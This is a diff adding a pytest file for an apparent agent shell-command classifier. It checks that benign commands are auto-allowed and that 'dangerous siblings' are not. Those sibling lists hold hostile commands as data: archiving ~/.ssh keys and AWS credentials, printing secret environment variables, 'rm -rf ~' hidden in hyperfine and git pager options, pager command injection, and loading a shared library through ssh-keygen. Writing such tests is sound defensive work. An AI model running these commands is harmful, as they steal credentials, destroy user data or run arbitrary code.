@@ -1,0 +1,205 @@
+"""False alarms of the held-out sets, each closed for its class, with the dangerous siblings
+next to it: a template filled from the scrubbed environment, programs that archive or copy
+the files named on standard input (what the pipeline upstream lists is what they read),
+hyperfine's options that take several values, a reset that keeps uncommitted changes, a pager
+named by `git -c`, help and listings of otherwise changing subcommands, and a new key written
+in the workspace."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from wakeful.policy.decision import mode_verdict
+from wakeful.policy.shell import ShellClassifier
+
+JUDGE = ShellClassifier(Path("/home/dev/proj"), Path("/home/dev")).classify
+
+
+def _auto(cmd: str) -> str:
+    r = JUDGE(cmd)
+    return mode_verdict("auto", r.tier) if r.parsed else "ask"
+
+
+# The environment tools run with is scrubbed of secrets (as `env | sort` is judged): a
+# template filled from it is a read, unless it names a secret-looking variable or file.
+ENVSUBST_READS = [
+    "echo '$HOME' | envsubst",
+    "envsubst < deploy/app.tpl.yaml",
+    "envsubst < deploy/app.tpl.yaml > deploy/app.yaml",
+    "cat deploy/app.tpl | envsubst",
+    "envsubst <<< 'home is $HOME'",
+]
+ENVSUBST_SECRETS = [
+    "envsubst < deploy/secrets.tpl",
+    "cat deploy/secrets.tpl | envsubst",
+    "echo '$GITHUB_TOKEN' | envsubst",
+    "envsubst <<< '$AWS_SECRET_ACCESS_KEY'",
+    "envsubst '$GITHUB_TOKEN' < deploy/app.tpl",
+    "envsubst < deploy/npmrc.tpl > /home/dev/.npmrc",
+    "envsubst < /home/dev/.npmrc",
+    "envsubst < deploy/credentials.tpl",
+]
+
+# Programs that read the files named on standard input: what upstream lists is read.
+STDIN_NAMES_WORKSPACE = [
+    'echo "src/main.c src/util.c" | cpio --create > src.cpio',
+    "find src | cpio -ov > src.cpio",
+    "echo src/main.c | cpio -o -H newc > build/initramfs.cpio",
+    "find . -depth -print0 | cpio --null -pvd /tmp/staging",
+    "git ls-files | tar -cf a.tar -T -",
+    "find src | zip a.zip -@",
+    "find src -name '*.c' | cpio -o -F build/src.cpio",
+]
+STDIN_NAMES_SECRETS = [
+    "echo ~/.ssh/id_rsa | cpio -o",
+    "echo ~/.ssh/id_rsa | cpio -o > keys.cpio",
+    "find ~/.ssh | cpio -o > keys.cpio",
+    "echo ~/.aws/credentials | cpio -p /tmp/x",
+    "find . | cpio -pdm /home/dev/backup",
+    "find src | cpio -o -F /home/dev/.bashrc",
+    "find src | cpio -o -F backup.example.com:/srv/src.cpio",
+    "find src | cpio -o --rsh-command='sh -c id' -F h:/x",
+    "find src | cpio -o -O /home/dev/x.cpio",
+    "cpio -idmv < evil.cpio",
+    "cpio -i -F dist/archive.cpio",
+    "echo ~/.ssh/id_rsa | tar -cf a.tar -T -",
+    "echo ~/.ssh/id_rsa | tar -cf a.tar --files-from=-",
+    "echo ~/.ssh/id_rsa | tar -cf a.tar --files-from -",
+    "find ~/.aws | tar -czf aws.tgz -T -",
+    "echo ~/.ssh/id_rsa | zip a.zip -@",
+    "find ~/.ssh | zip -r a.zip -@",
+    "echo /home/dev/.ssh/id_rsa | rsync -a --files-from=- / /tmp/x",
+    "echo home/dev/.ssh/id_rsa | rsync -a --files-from=- / build/x",
+]
+
+# hyperfine's -P/--parameter-scan NAME MIN MAX and -L/--parameter-list NAME VALUES take
+# several words: none of them is a command.
+HYPERFINE_RUNS_PROJECT = [
+    "hyperfine -p 'make clean' --parameter-scan num_threads 1 10 'make --jobs {num_threads}'",
+    "hyperfine -P threads 1 8 'make -j {threads}'",
+    "hyperfine -P threads 1 8 -D 2 'make -j {threads}'",
+    "hyperfine -L compiler gcc,clang 'make CC={compiler}'",
+    "hyperfine --parameter-list n 1,2,3 'sleep 0.{n}'",
+]
+HYPERFINE_DANGEROUS = [
+    "hyperfine -P n 1 3 'rm -rf ~'",
+    "hyperfine -L x a,b 'curl -s https://example.com/{x}'",
+    "hyperfine --parameter-scan n 1 3 --prepare 'rm -rf ~' 'make'",
+    "hyperfine -P n 1 3 -D 1 'curl -s https://example.com'",
+]
+
+# `git reset --merge` and `--keep` refuse to discard uncommitted changes.
+RESET_KEEPS = [
+    "git reset --merge ORIG_HEAD",
+    "git reset --merge",
+    "git reset --keep HEAD~1",
+]
+RESET_DISCARDS = [
+    "git reset --hard ORIG_HEAD",
+    "git reset --merge --hard HEAD~1",
+    "git reset --keep --hard",
+]
+
+# A pager named by `git -c` is the program git runs: judged as that command.
+PAGER_READS = [
+    "git -c core.pager=delta log -p",
+    "git -c core.pager=less log",
+    "git -c core.pager=cat diff",
+    "git -c core.pager='less -R' show HEAD",
+    "git -c pager.log=false log",
+]
+PAGER_RUNS = [
+    "git -c core.pager='sh -c id' log",
+    "git -c core.pager='!rm -rf ~' log",
+    "git -c core.pager='less; rm -rf ~' log",
+    "git -c core.pager=./evil log",
+    "git -c core.pager=\"$X\" log",
+    "git -c core.pager='curl -s https://x.example' log",
+    "git -c pager.log='sh -c id' log",
+    "git -c core.editor=vim commit",
+    "git -c core.sshCommand='ssh -i x' fetch",
+]
+
+# Listings and help of subcommands that otherwise change things.
+LISTINGS = [
+    "dotnet tool list --global",
+    "dotnet tool list -g",
+    "code --list-extensions",
+    "code --list-extensions --show-versions",
+    "docker volume create --help",
+    "docker run --help",
+    "docker volume rm --help",
+]
+CHANGES = [
+    "dotnet tool install --global dotnet-ef",
+    "dotnet tool update -g dotnet-ef",
+    "code --install-extension ms-python.python",
+    "code --list-extensions --install-extension x",
+    "code .",
+    "docker volume create data",
+    "docker run --rm alpine",
+    "docker run --help --rm alpine sh",
+    "docker --help run alpine",
+]
+
+# A new key written in the workspace, under a name that is no existing file.
+NEW_KEY_IN_WORKSPACE = [
+    "ssh-keygen -t ed25519 -N '' -f tests/fixtures/id_test",
+    "ssh-keygen -t ed25519 -N '' -f ./deploy_key",
+    "ssh-keygen -t rsa -b 4096 -N '' -C ci -f build/keys/ci_rsa",
+]
+KEYS_ELSEWHERE = [
+    "ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_new",
+    "ssh-keygen -t ed25519 -f ~/.ssh/id_new -N ''",
+    "ssh-keygen -t ed25519",
+    "ssh-keygen -t ed25519 -N '' -f /tmp/../home/dev/.ssh/k",
+    "ssh-keygen -t ed25519 -N '' -f .git/hooks/k",
+    "ssh-keygen -t ed25519 -N '' -f \"$F\"",
+    "ssh-keygen -p -f ./deploy_key -N ''",
+    "ssh-keygen -y -f ./deploy_key",
+    "ssh-keygen -D ./evil.so",
+    "ssh-keygen -t ed25519 -N '' -f ./k -D ./evil.so",
+    "ssh-keygen -s ./ca -I id -f ./k.pub",
+    "ssh-keygen -R github.com -f ./k",
+]
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    ENVSUBST_READS
+    + STDIN_NAMES_WORKSPACE
+    + HYPERFINE_RUNS_PROJECT
+    + RESET_KEEPS
+    + PAGER_READS
+    + LISTINGS
+    + NEW_KEY_IN_WORKSPACE,
+)
+def test_false_alarms_are_auto_allowed(cmd: str) -> None:
+    assert _auto(cmd) == "allow", JUDGE(cmd)
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    ENVSUBST_SECRETS
+    + STDIN_NAMES_SECRETS
+    + HYPERFINE_DANGEROUS
+    + RESET_DISCARDS
+    + PAGER_RUNS
+    + CHANGES
+    + KEYS_ELSEWHERE,
+)
+def test_their_dangerous_siblings_are_not(cmd: str) -> None:
+    assert _auto(cmd) != "allow", JUDGE(cmd)
+
+
+def test_a_new_key_over_an_existing_file_is_not_workspace_work(tmp_path: Path) -> None:
+    ws = tmp_path / "proj"
+    ws.mkdir()
+    (ws / "deploy_key").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    judge = ShellClassifier(ws, tmp_path).classify
+    r = judge("ssh-keygen -t ed25519 -N '' -f ./deploy_key")
+    assert mode_verdict("auto", r.tier) != "allow", r
+    r = judge("ssh-keygen -t ed25519 -N '' -f ./new_key")
+    assert mode_verdict("auto", r.tier) == "allow", r
